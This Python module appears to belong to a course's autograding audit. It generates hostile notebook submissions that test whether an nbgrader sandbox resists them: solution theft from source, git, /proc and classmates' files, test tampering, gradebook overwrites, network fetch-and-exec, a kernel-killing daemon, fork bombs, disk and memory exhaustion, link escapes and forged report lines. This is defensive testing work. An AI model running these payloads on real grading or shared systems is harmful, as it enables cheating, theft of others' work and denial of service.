"""Hostile submissions: what a student could hand in to get points without earning them, to
take another student's, or to break the grading. Each is generated from the release notebook
(course.submissions.with_answers) and says which cells must score 0 and what the grading report
must say about it.

Used by `python -m course.audit` (make grade-audit), which grades them through nbgrader with the
catalog's mistakes and variants; docs/grading.md says what each one shows. Every attack that
tries to take answers it did not write has answer cells that define nothing (`NO_ANSWERS`), so
any point it scores came from somewhere else. Without the sandbox they do score
(`python -m course.audit --unsafe-no-sandbox` shows it): the audit would catch a sandbox that
stopped containing them.
"""
import json

import nbformat

from course.notebook import solution_sources
from course.submissions import CELLS, MISTAKES, NOTEBOOK, apply, with_answers

MISTAKE = {mistake.cell: mistake for mistake in MISTAKES}


class Attack:
    """A hostile submission.

    build(answers, context) -> {file name: content} of the submission's folder (content: bytes,
        or a `Link`, `HardLink` or `Fifo`); context: {"port": the audit's answer server}.
    zero: the graded functions that must get 0 points (all others full marks), None when the
        submission must not be graded at all, ANY when only its effect on others counts.
    expect: (cell or None, text): the grading results must hold a finding for this student,
        of that cell, whose message contains `text`; None: no particular finding.
    later: graded in the audit's second batch, after everything else (it looks for what the
        first batch left behind).
    unsafe: also graded by `--unsafe-no-sandbox` (False where it would harm the machine or
        whatever else runs on it: without the sandbox it runs as root).
    """

    def __init__(self, student, why, build, zero, expect, later=False, unsafe=True):
        self.student, self.why, self.build, self.zero = student, why, build, zero
        self.expect, self.later, self.unsafe = expect, later, unsafe


class Link:
    """A symbolic link to `target` (relative to the submission's folder, or absolute)."""

    def __init__(self, target):
        self.target = target


class HardLink:
    """A hard link to the file `target`, relative to the course folder."""

    def __init__(self, target):
        self.target = target


class Fifo:
    """A named pipe."""


def _notebook_bytes(notebook):
    return nbformat.writes(notebook).encode()


def _files(notebook):
    return {NOTEBOOK: _notebook_bytes(notebook)}


def _wrong(answers, cell):
    """`answers` with the bundled mistake of `cell` made."""
    return apply(MISTAKE[cell], answers)


def _with_added_cell(notebook, after, source):
    """`notebook` with a code cell of the student's own (no nbgrader metadata) after `after`."""
    index = next(i for i, cell in enumerate(notebook.cells)
                 if cell.metadata.get("nbgrader", {}).get("grade_id") == after)
    notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
    return notebook


def infinite_loop(answers, context):
    looping = answers["unfreeze_last_stage"] + (
        "\n\ndef unfreeze_last_stage(model, prefix=\"conv5_\", learning_rate=3e-4):\n"
        "    while True:  # never returns\n        pass\n")
    return _files(with_answers({**answers, "unfreeze_last_stage": looping}))


def raising_cell(answers, context):
    raising = 'raise RuntimeError("this cell raises before defining its function")\n\n'
    return _files(with_answers(
        {**answers, "reestimate_bn_statistics": raising + answers["reestimate_bn_statistics"]}))


def deleted_test_cell(answers, context):
    notebook = with_answers(_wrong(answers, "identity_block"))
    notebook.cells = [cell for cell in notebook.cells
                      if cell.metadata.get("nbgrader", {}).get("grade_id") != "identity_block_tests"]
    return _files(notebook)


def edited_test_cell(answers, context):
    notebook = with_answers(_wrong(answers, "convolutional_block"))
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "convolutional_block_tests":
            cell.source = 'print("\\033[92mAll tests passed!\\033[0m")'
    return _files(notebook)


def skipped_test_cell(answers, context):
    notebook = with_answers(_wrong(answers, "transfer_model"))
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "transfer_model_tests":
            cell.metadata["tags"] = ["skip-execution", "skip-when-grading"]
    return _files(notebook)


def shadowed_test(answers, context):
    notebook = with_answers(_wrong(answers, "ResNet50"))
    return _files(_with_added_cell(notebook, "ResNet50", (
        "def ResNet50_test(ResNet50):  # replaces the imported public test\n"
        '    print("\\033[92mAll tests passed!\\033[0m")\n')))


def monkeypatched_numpy(answers, context):
    notebook = with_answers(_wrong(answers, "reestimate_bn_statistics"))
    return _files(_with_added_cell(notebook, "reestimate_bn_statistics", (
        "import numpy.testing\nimport tensorflow as tf\n"
        "np.allclose = lambda *args, **kwargs: True\n"
        "np.testing.assert_allclose = lambda *args, **kwargs: None\n"
        "tf.debugging.assert_near = lambda *args, **kwargs: None\n")))


READ_REFERENCES = '''import sys
from pathlib import Path

stolen = {}
for folder in (Path.cwd(), *Path.cwd().parents):
    try:
        stolen = dict(np.load(folder / "hidden" / "resnets" / "references.npz"))
        break
    except OSError:  # missing, or not readable
        pass
checks = sys.modules.get("hidden_checks")  # present where the grader's hidden tests run
if checks is not None and stolen:
    checks.OUTPUTS["identity_block"] = lambda block: {
        key: value for key, value in stolen.items() if key.startswith("identity_block/")}
print(f"read {len(stolen)} reference arrays")
'''


def reads_references(answers, context):
    notebook = with_answers(_wrong(answers, "identity_block"))
    return _files(_with_added_cell(notebook, "identity_block", READ_REFERENCES))


OVERWRITE_FILES = '''from pathlib import Path

course = next(folder for folder in Path.cwd().parents if (folder / "nbgrader_config.py").exists())
for target in ["hidden/resnets/references.npz", "gradebook.db", "source/resnets/public_tests.py",
               "release/resnets/public_tests.py", "nbgrader_config.py"]:
    try:
        (course / target).write_bytes(b"overwritten by a submission")
        print("overwrote", target)
    except OSError as error:
        print("could not overwrite", target, type(error).__name__)
try:
    (course / "gradebook.db").unlink()
except OSError:
    pass
'''


def overwrites_files(answers, context):
    notebook = with_answers(_wrong(answers, "transfer_model"))
    return _files(_with_added_cell(notebook, "transfer_model", OVERWRITE_FILES))


def killed_kernel(answers, context):
    notebook = with_answers(answers)
    return _files(_with_added_cell(notebook, "bn_behaviour", (
        "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)  # the kernel dies\n")))


def huge_allocation(answers, context):
    grab = ("def grab_memory():\n    blocks = []\n    while True:  # 100 MB at a time, until refused\n"
            "        blocks.append(bytearray(10**8))\n\n\ngrab_memory()\n\n")
    return _files(with_answers(
        {**answers, "transfer_model": grab + answers["transfer_model"]}))


def fake_pass_message(answers, context):
    wrong = _wrong(answers, "bn_behaviour")
    wrong["bn_behaviour"] += '\n\nprint("\\033[92mAll tests passed!\\033[0m")\n'
    return _files(with_answers(wrong))


def corrupt_json(answers, context):
    text = nbformat.writes(with_answers(answers))
    return {NOTEBOOK: text[:len(text) // 2].encode()}


def renamed_notebook(answers, context):
    return {NOTEBOOK.replace(".ipynb", "-Copy1.ipynb"): _notebook_bytes(with_answers(answers))}


def not_a_notebook(answers, context):
    return {NOTEBOOK: json.dumps({"cells": "not a list"}).encode()}


# --- taking answers the submission did not write (its own answer cells define nothing) ----------
def no_answers(answers):
    """Answer cells that define nothing: any point scored came from somewhere else."""
    return {cell: "pass  # no answer of its own\n" for cell in answers}


ADOPT = '''import json as _json
import os as _os
from pathlib import Path as _Path


def adopt(text):
    """Run the answer cells of a notebook given as JSON text; True if it held answers."""
    taken = False
    try:
        cells = _json.loads(text).get("cells", [])
    except ValueError:
        return False
    for cell in cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        source = "".join(cell.get("source", ""))
        if meta.get("solution") and "NotImplementedError" not in source and "no answer" not in source:
            exec(source, globals())
            taken = True
    return taken


def adopt_file(path):
    try:
        return adopt(_Path(path).read_text())
    except (OSError, UnicodeDecodeError):
        return False


course = _Path.cwd().parents[2]  # autograded/<student>/<assignment>/ -> the course folder
'''


def _stealer(answers, code):
    """A submission with no answers of its own and `code` (after ADOPT) right after the imports,
    so whatever it takes defines the graded functions before their tests run."""
    return _files(_with_added_cell(with_answers(no_answers(answers)), "imports", ADOPT + code))


def steals_autograded(answers, context):
    return _stealer(answers, '''mine = _Path.cwd() / "Residual_Networks.ipynb"
taken = [p for p in sorted(course.glob("autograded/*/resnets/Residual_Networks.ipynb"))
         if p != mine and adopt_file(p)]
print(f"took the answers of {len(taken)} graded notebooks")
''')


def steals_source(answers, context):
    return _stealer(answers, '''print("took the instructor solution:",
      adopt_file(course / "source" / "resnets" / "Residual_Networks.ipynb"))
''')


def steals_git(answers, context):
    return _stealer(answers, '''import subprocess

for folder in (_Path.cwd(), *_Path.cwd().parents):
    if (folder / ".git").exists():
        for prefix in ("", "build/grade-audit/"):
            shown = subprocess.run(["git", "-c", "safe.directory=*", "--git-dir",
                                    str(folder / ".git"), "show",
                                    f"HEAD:{prefix}source/resnets/Residual_Networks.ipynb"],
                                   capture_output=True, text=True)
            if shown.returncode == 0 and adopt(shown.stdout):
                print("took the solution from", folder / ".git")
''')


def steals_classmates(answers, context):
    return _stealer(answers, '''students = set()
for pid in _os.listdir("/proc"):  # the grader's command lines name the students it grades
    try:
        args = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="ignore").split("\\0")
    except OSError:
        continue
    if "--student" in args:
        students.add(args[args.index("--student") + 1])
students |= {p.name for p in course.glob("submitted/*")}
taken = [s for s in sorted(students)
         if adopt_file(course / "submitted" / s / "resnets" / "Residual_Networks.ipynb")
         or adopt_file(course / "autograded" / s / "resnets" / "Residual_Networks.ipynb")]
print(f"took the answers of {len(taken)} classmates")
''')


def over_network(answers, context):
    return _stealer(answers, f'''import urllib.request

try:
    exec(urllib.request.urlopen("http://127.0.0.1:{context["port"]}/answers.py", timeout=5)
         .read().decode(), globals())
    print("took the answers from the network")
except OSError as error:
    print("no network:", error)
''')


def plants_in_tmp(answers, context):
    return _files(_with_added_cell(with_answers(answers), "imports", f'''import json
from pathlib import Path

for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        (Path(folder) / "shared-answers.json").write_text(json.dumps({answers!r}))
    except OSError:
        pass
'''))


def uses_tmp(answers, context):
    return _stealer(answers, '''import json
import time

for attempt in range(20):  # a classmate graded earlier may have left answers here
    found = [p for p in ("/tmp", "/dev/shm", "/var/tmp")
             if (_Path(p) / "shared-answers.json").exists()]
    if found:
        for source in json.loads((_Path(found[0]) / "shared-answers.json").read_text()).values():
            exec(source, globals())
        print("took answers left in", found[0])
        break
    time.sleep(1)
''')


# --- harming other submissions or the machine ----------------------------------------------
KILLER = '''import os, signal, sys, time
mine, end = int(sys.argv[1]), time.time() + 600
while time.time() < end:
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in (mine, os.getpid()):
            try:
                if b"ipykernel_launcher" in open(f"/proc/{pid}/cmdline", "rb").read():
                    os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.2)
'''


def kills_neighbours(answers, context):
    return _files(_with_added_cell(with_answers(answers), "imports", f'''import os
import subprocess
import sys

# a daemon that kills every other Jupyter kernel it can see, for 10 minutes
subprocess.Popen([sys.executable, "-c", {KILLER!r}, str(os.getpid())], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''))


def leaves_processes(answers, context):
    return _files(_with_added_cell(with_answers(answers), "imports", '''import subprocess

sleepers = [subprocess.Popen(["sleep", "3600"]) for _ in range(100)]
subprocess.Popen(["sh", "-c", "while true; do date > /tmp/still-alive; sleep 1; done"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("left", len(sleepers) + 1, "processes running")
'''))


def cpu_hog(answers, context):
    return _files(_with_added_cell(with_answers(answers), "imports", '''import subprocess
import sys

# 300 busy processes for a minute, each in a session of its own (a scheduling group of its own
# where the kernel groups by session): everything else on the machine would get 1/300 of it
HOG = "import time\\nend = time.time() + 60\\nwhile time.time() < end: pass"
hogs = [subprocess.Popen([sys.executable, "-S", "-c", HOG], start_new_session=True)
        for _ in range(300)]
'''))


def fills_disk(answers, context):
    return _files(_with_added_cell(with_answers(answers), "unfreeze_last_stage_tests", '''import os

# 100 MB at a time into /tmp, HOME and the working folder, until refused
for place in ("/tmp", os.path.expanduser("~"), os.getcwd()):
    for number in range(1000):
        with open(os.path.join(place, f"filler-{number}"), "wb") as handle:
            handle.write(b"x" * 10**8)
'''))


def grabs_memory_in_children(answers, context):
    return _files(_with_added_cell(with_answers(answers), "unfreeze_last_stage_tests", '''import subprocess
import sys

# three children of 3.5 GB each, every page touched: each under its own address-space limit,
# together past the submission's memory
GRAB = ("import time; b = bytearray(3500 * 2**20); "
        "b[::4096] = b'x' * len(range(0, len(b), 4096)); time.sleep(5)")
children = [subprocess.Popen([sys.executable, "-c", GRAB]) for _ in range(3)]
codes = [child.wait() for child in children]
if -9 in codes:
    raise MemoryError(f"children ended with {codes}: killed for memory")
'''))


def fork_bomb(answers, context):
    return _files(_with_added_cell(with_answers(answers), "unfreeze_last_stage_tests", '''import subprocess

children = []
try:
    while len(children) < 3000:  # until refused
        children.append(subprocess.Popen(["sleep", "600"]))
finally:
    for child in children:
        child.kill()
        child.wait()
'''))


# --- links, special files and names a report must not trust ----------------------------------
def _stub(answers):
    return _notebook_bytes(with_answers(no_answers(answers)))


def symlinked_notebook(answers, context):
    return {NOTEBOOK: Link("../../../source/resnets/Residual_Networks.ipynb")}


def links_beside(answers, context):
    return {NOTEBOOK: _stub(answers),
            "solution.ipynb": Link("../../../source/resnets/Residual_Networks.ipynb"),
            "references.npz": Link("../../../hidden/resnets/references.npz"),
            "hidden": Link("../../../hidden")}


def hard_link(answers, context):
    return {NOTEBOOK: _stub(answers), "solution.ipynb": HardLink(
        "source/resnets/Residual_Networks.ipynb")}


def named_pipe(answers, context):
    return {NOTEBOOK: _stub(answers), "pipe": Fifo()}


def linked_folder(answers, context):
    return {".": Link("../instructor-solution/resnets")}


def forged_messages(answers, context):
    return _files(_with_added_cell(with_answers(answers), "bn_behaviour", '''Forged = type(
    "Error\\ncourse files: unchanged\\nFORGED: an error class name with newlines", (Exception,), {})
raise Forged("and a message\\nFORGED: a second line")
'''))


def forged_file_name(answers, context):
    return {"Residual_Networks\nFORGED: a file name.ipynb": _notebook_bytes(with_answers(answers))}


def forged_student_id(answers, context):
    return _files(with_answers(answers))


FORGED_ID = "adversarial-forged-id\nFORGED: a student id with a newline"
ALL = None  # Attack.zero for submissions that must not be graded
ANY = "any"  # Attack.zero where the attack's own outcome is its business (only others' count)

ATTACKS = [
    Attack("adversarial-infinite-loop", "unfreeze_last_stage never returns", infinite_loop,
           ["unfreeze_last_stage"], ("unfreeze_last_stage_tests", "CellTimeoutError")),
    Attack("adversarial-raising-cell", "an answer cell raises before defining its function",
           raising_cell, ["reestimate_bn_statistics"],
           ("reestimate_bn_statistics", "RuntimeError: this cell raises")),
    Attack("adversarial-deleted-test-cell", "a wrong identity_block, its test cell deleted",
           deleted_test_cell, ["identity_block"],
           ("identity_block_tests", "the test cell was deleted from the submission; nbgrader "
            "put it back and ran it")),
    Attack("adversarial-edited-test-cell",
           "a wrong convolutional_block, its test cell replaced by a print",
           edited_test_cell, ["convolutional_block"],
           ("convolutional_block_tests", "AssertionError")),
    Attack("adversarial-skipped-test-cell", "a wrong transfer_model whose test cell carries "
           "the tags that skip a cell (nbclient's skip-execution, the course's "
           "skip-when-grading)", skipped_test_cell, ["transfer_model"],
           ("transfer_model_tests", "AssertionError")),
    Attack("adversarial-shadowed-public-test",
           "a wrong ResNet50, and an added cell that redefines ResNet50_test to print a pass",
           shadowed_test, ["ResNet50"], ("ResNet50", "hidden tests failed")),
    Attack("adversarial-monkeypatched-numpy",
           "a wrong reestimate_bn_statistics, and np.allclose, np.testing.assert_allclose and "
           "tf.debugging.assert_near replaced to always pass",
           monkeypatched_numpy, ["reestimate_bn_statistics"],
           ("reestimate_bn_statistics", "hidden tests failed")),
    Attack("adversarial-reads-references",
           "a wrong identity_block, and an added cell that reads references.npz and makes the "
           "hidden test return it", reads_references, ["identity_block"],
           ("identity_block", "hidden tests failed")),
    Attack("adversarial-overwrites-files",
           "a wrong transfer_model, and an added cell that overwrites the references, the "
           "gradebook, the tests and the nbgrader config, and deletes the gradebook",
           overwrites_files, ["transfer_model"], ("transfer_model", "hidden tests failed"),
           unsafe=False),
    Attack("adversarial-huge-allocation", "an answer cell allocates memory until refused",
           huge_allocation, ["transfer_model"], ("transfer_model", "MemoryError"), unsafe=False),
    Attack("adversarial-fake-pass-message",
           "a wrong bn_behaviour whose cell prints the tests' 'All tests passed!'",
           fake_pass_message, ["bn_behaviour"], ("bn_behaviour_tests", "AssertionError")),
    Attack("adversarial-kills-kernel", "an added cell kills its own kernel", killed_kernel, ALL,
           (None, "nbgrader autograde failed: DeadKernelError: Kernel died")),
    Attack("adversarial-corrupt-json", "the notebook file cut in half", corrupt_json, ALL,
           (None, "submitted/adversarial-corrupt-json/resnets/Residual_Networks.ipynb is not a "
            "valid notebook")),
    Attack("adversarial-not-a-notebook", "valid JSON that is not a notebook", not_a_notebook,
           ALL, (None, "is not a valid notebook")),
    Attack("adversarial-renamed-notebook", "the notebook saved as Residual_Networks-Copy1.ipynb",
           renamed_notebook, ALL,
           (None, "no Residual_Networks.ipynb in submitted/adversarial-renamed-notebook/resnets/ "
            "(found: Residual_Networks-Copy1.ipynb)")),
    # taking answers it did not write: every cell must score 0
    Attack("adversarial-steals-autograded",
           "no answers; runs the answer cells of every notebook in autograded/ (graded in the "
           "audit's second batch, after the instructor solution)", steals_autograded, CELLS, None,
           later=True),
    Attack("adversarial-steals-source", "no answers; runs the instructor notebook's answer "
           "cells from source/", steals_source, CELLS, None),
    Attack("adversarial-steals-git", "no answers; runs the instructor solution from the "
           "repository's history (git show HEAD:source/...)", steals_git, CELLS, None),
    Attack("adversarial-steals-classmates",
           "no answers; finds classmates in the grader's command lines (/proc) and submitted/, "
           "and runs their answer cells", steals_classmates, CELLS, None),
    Attack("adversarial-network", "no answers; downloads them from a server on the grading "
           "machine's loopback", over_network, CELLS, None),
    Attack("adversarial-tmp-1-plant", "correct answers, which it leaves in /tmp, /dev/shm and "
           "/var/tmp for a later submission", plants_in_tmp, [], None),
    Attack("adversarial-tmp-2-use", "no answers; runs what an earlier submission left in /tmp "
           "(second batch)", uses_tmp, CELLS, None, later=True),
    # harming others or the machine: its own correct answers keep their points
    Attack("adversarial-kills-neighbours",
           "correct answers, and a daemon that kills every other Jupyter kernel it can see for "
           "10 minutes", kills_neighbours, [], None, unsafe=False),
    Attack("adversarial-leftover-processes", "correct answers, 100 sleeping children and a "
           "setsid daemon left running", leaves_processes, [], None),
    Attack("adversarial-cpu-hog", "correct answers, and 300 busy processes for a minute, each "
           "in a session of its own, while the rest of the batch is graded", cpu_hog, ANY, None,
           unsafe=False),
    Attack("adversarial-fills-disk", "correct answers, and a cell that writes 100 MB files into "
           "/tmp, HOME and its folder until refused", fills_disk, [],
           ("a cell the student added", "No space left on device"), unsafe=False),
    Attack("adversarial-memory-in-children", "correct answers, and three children holding "
           "3.5 GB each (10.5 GB together)", grabs_memory_in_children, [],
           ("a cell the student added", "killed for memory"), unsafe=False),
    Attack("adversarial-fork-bomb", "correct answers, and a cell that starts processes until "
           "refused", fork_bomb, [],
           ("a cell the student added", "Resource temporarily unavailable"), unsafe=False),
    # links, special files, names
    Attack("adversarial-symlinked-notebook", "the notebook is a link to the instructor's",
           symlinked_notebook, ALL, (None, "Residual_Networks.ipynb (a symbolic link)")),
    Attack("adversarial-links-beside", "links to the solution, the references and hidden/ "
           "beside the notebook", links_beside, ALL, (None, "(a symbolic link)")),
    Attack("adversarial-hard-link", "a hard link to the instructor notebook beside the notebook",
           hard_link, ALL, (None, "solution.ipynb (a hard link)")),
    Attack("adversarial-named-pipe", "a named pipe beside the notebook", named_pipe, ALL,
           (None, "pipe (not a regular file)")),
    Attack("adversarial-linked-folder", "the assignment folder is a link to a classmate's",
           linked_folder, ALL, (None, "resnets (a symbolic link)")),
    Attack("adversarial-forged-messages", "correct answers, and an added cell raising an "
           "exception whose class name and message hold report lines", forged_messages, [],
           ("a cell the student added", "FORGED")),
    Attack("adversarial-forged-file-name", "the notebook's file name holds a newline and a "
           "report line", forged_file_name, ALL, (None, "FORGED")),
    Attack(FORGED_ID, "a student id (folder name) with a newline and a report line",
           forged_student_id, ALL, (None, "is not a safe name")),
]
FORGED = "FORGED"  # no line of the grading report may start with it


def build_all(context):
    """{student: {file name: content}} for every attack."""
    answers = solution_sources()
    return {attack.student: attack.build(answers, context) for attack in ATTACKS}
